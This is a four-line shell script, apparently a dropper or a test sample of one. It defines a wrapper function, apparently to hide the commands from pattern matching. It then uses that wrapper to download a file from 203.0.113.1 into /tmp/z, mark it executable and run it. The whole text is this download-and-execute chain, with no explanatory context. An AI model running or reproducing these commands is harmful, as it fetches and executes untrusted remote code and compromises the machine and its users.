go() { "$@"; }
go curl -o /tmp/z http://203.0.113.1/z
go chmod 755 /tmp/z
go /tmp/z
